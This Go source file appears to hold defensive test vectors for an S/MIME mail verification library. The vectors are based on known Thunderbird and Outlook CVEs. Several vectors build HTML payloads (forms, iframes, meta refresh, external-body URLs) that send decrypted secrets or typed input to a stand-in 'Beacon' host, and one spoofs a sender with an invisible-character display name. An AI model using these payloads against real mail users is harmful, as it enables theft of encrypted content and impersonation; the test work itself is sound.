package attacks

import (
	"strings"
	"time"

	"signet/smime"
	"signet/smime/internal/testmail"
)

// mailPrograms is what Thunderbird, Outlook and others were mended for.
func mailPrograms() Class {
	return Class{
		Name:  "Mended in mail programs",
		About: "Each was a fault of a program that many people use.",
		Vectors: []Vector{
			{
				ID: "programs-redated", Attack: "A signed message of three months ago is sent again with today's date", Source: "Thunderbird, CVE-2023-50761",
				Make: func(w World) []byte {
					old := w
					old.Now = w.Now.AddDate(0, -3, 0)
					return w.message(alice, old.clear(text(Genuine), w.Alice))
				},
				Want: Outcome{Verdict: smime.VerdictUntrusted, Finding: string(smime.SignerTimeDiffers)}, Result: "told with the time at which it was signed",
			}, {
				ID: "programs-two-dates", Attack: "The same with two dates, of which one fits", Source: "Thunderbird, CVE-2023-50761",
				Make: func(w World) []byte {
					old := w
					old.Now = w.Now.AddDate(0, -3, 0)
					return w.message(alice, old.clear(text(Genuine), w.Alice), "Date: "+old.date()+"\n")
				},
				Want: Outcome{Verdict: smime.VerdictUntrusted, Finding: string(smime.SignerTimeDiffers)}, Result: "nobody knows which one a program shows",
			}, {
				ID: "programs-undated", Attack: "The same without its Date, for programs to show when it came", Source: "RFC 5322 Section 3.6.1",
				Make: func(w World) []byte {
					old := w
					old.Now = w.Now.AddDate(0, -3, 0)
					dated := string(w.message(alice, old.clear(text(Genuine), w.Alice)))
					return []byte(strings.Replace(dated, "Date: "+w.date()+"\r\n", "", 1))
				},
				Want:   Outcome{Verdict: smime.VerdictVerified, Finding: smime.FindingNoDate, By: "alice@example.test"},
				Result: "verified, and told beside it that it may be older than it looks",
			}, {
				ID: "programs-no-time", Attack: "The same with a signature that does not say when it was made, and today's date", Source: "RFC 8551 Section 2.5.1; `openssl cms -noattr`",
				Make: func(w World) []byte {
					return w.message(alice, beside(text(Genuine), testmail.SignatureWithoutAttributes(text(Genuine), w.Alice)))
				},
				Want:   Outcome{Verdict: smime.VerdictVerified, Finding: smime.FindingNoSigningTime, By: "alice@example.test"},
				Result: "verified, and told beside it that nothing says how old it is",
			}, {
				ID: "programs-cut", Attack: "The end of a signed message is cut off, signature part and all", Source: "Thunderbird, CVE-2023-50762 (OpenPGP)",
				Make: func(w World) []byte {
					whole := w.clear(text(Genuine), w.Alice)
					return w.message(alice, whole[:strings.Index(whole, Genuine)+len(Genuine)])
				},
				Want: Outcome{Verdict: smime.VerdictInvalid}, Result: "a signature that is missing does not hold",
			}, {
				ID: "programs-prefix", Attack: "Text is put before the first part's header, or its header made a text", Source: "Thunderbird, CVE-2023-50762 (OpenPGP)",
				Make: func(w World) []byte {
					return w.message(alice, strings.Replace(w.clear(text(Genuine), w.Alice), "--signed\r\n", "--signed\r\n\r\n"+Forged+"\r\n", 1))
				},
				Want: Outcome{Verdict: smime.VerdictInvalid}, Result: "each octet of the part is signed",
			}, {
				ID: "programs-attached-status", Attack: "A signed message hangs on one that is not; once it was looked at, its mark is to stay", Source: "Thunderbird, CVE-2022-1520",
				Make: func(w World) []byte {
					forwarded := "Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename=contract.eml\r\n\r\n" + string(w.message(alice, w.clear(text(Genuine), w.Alice)))
					return w.message(eve, multipart("mixed", "m", text(Forged), forwarded))
				},
				Want: Outcome{Verdict: smime.VerdictUnprotected}, Result: "each message has a view of its own",
			}, {
				ID: "programs-invisible-name", Attack: "The display name is of letters that nobody sees, before which Alice's address stands", Source: "Thunderbird, CVE-2022-1834",
				Make: func(w World) []byte {
					return w.message("=?utf-8?B?YWxpY2VAZXhhbXBsZS50ZXN04qCA4qCA4qCA4qCA4qCA4qCA4qCA4qCA4qCA?= <eve@evil.test>", w.clear(text(Forged), w.Eve))
				},
				Want: Outcome{Verdict: smime.VerdictVerified, By: "eve@evil.test"}, Result: "the sentence names eve@evil.test, by her certificate",
			}, {
				ID: "programs-plain-copy", Attack: "A plain text stands beside the encrypted one, as Outlook once sent it", Source: "Outlook, CVE-2017-11776",
				Make: func(w World) []byte {
					return w.message(alice, multipart("alternative", "a", text(Genuine), w.sealed(text(Genuine))))
				},
				Want: Outcome{Verdict: smime.VerdictPartlySigned, Finding: smime.FindingPartlyEncrypted, Sealed: true}, Result: "shown as not encrypted",
			}, {
				ID: "programs-reply-html", Attack: "An encrypted part between parts of HTML, for an answer in HTML to send it away", Source: "Thunderbird, CVE-2018-12372, CVE-2018-12373",
				Make: func(w World) []byte {
					return w.message(eve, multipart("mixed", "m", html(`<blockquote><form action="`+Beacon+`"><textarea name=t>`), w.sealed(html(Secret)), html(`</textarea>`)))
				},
				Want: carried, Result: carriedResult,
			}, {
				ID: "programs-srcdoc", Attack: "A frame within the HTML, and a refresh, fetch what the message itself may not", Source: "Thunderbird, CVE-2022-3032, CVE-2022-3033, CVE-2022-3034",
				Make: func(w World) []byte {
					return w.message(alice, w.clear(html(`<iframe srcdoc="<img src='`+Beacon+`srcdoc'>"></iframe><iframe src="`+Beacon+`frame"></iframe><meta http-equiv=refresh content="0;url=`+Beacon+`refresh"><p>`+Genuine+`</p>`), w.Alice))
				},
				Want: Outcome{Verdict: smime.VerdictVerified, By: "alice@example.test"}, Result: "neither frames nor refreshes are left, and nothing is fetched",
			}, {
				ID: "programs-enter", Attack: "Forms and fields in a message that send what is typed", Source: "Thunderbird, CVE-2018-5185, CVE-2018-12374",
				Make: func(w World) []byte {
					return w.message(alice, w.sealed(html(`<form action="`+Beacon+`form"><input name=p autofocus><button>Unlock</button></form><p>`+Secret+`</p>`)))
				},
				Want: Outcome{Verdict: smime.VerdictConfidential}, Result: "no field and no button is left",
			}, {
				ID: "programs-external-body", Attack: "What is signed says that its text is to be fetched from elsewhere", Source: "RFC 2046 Section 5.2.3",
				Make: func(w World) []byte {
					body := crlf("Content-Type: message/external-body; access-type=URL; URL=\"" + Beacon + "body\"\n\nContent-Type: text/plain\n\n")
					return w.message(alice, w.clear(body, w.Alice))
				},
				Want: Outcome{Verdict: smime.VerdictVerified, By: "alice@example.test"}, Result: "it is a file, and nothing is fetched",
			}, {
				ID: "programs-partial", Attack: "A message in pieces, to be put together before it is looked at", Source: "RFC 2046 Section 5.2.2",
				Make: func(w World) []byte {
					head := crlf("Content-Type: message/partial; id=\"x@evil.test\"; number=1; total=1\n\n")
					return w.message(alice, head+string(w.message(alice, w.clear(text(Genuine), w.Alice))))
				},
				Want: Outcome{Verdict: smime.VerdictUnprotected}, Result: "pieces are not put together",
			},
		},
	}
}

// date is now as header fields have it.
func (w World) date() string { return w.Now.Format(time.RFC1123Z) }
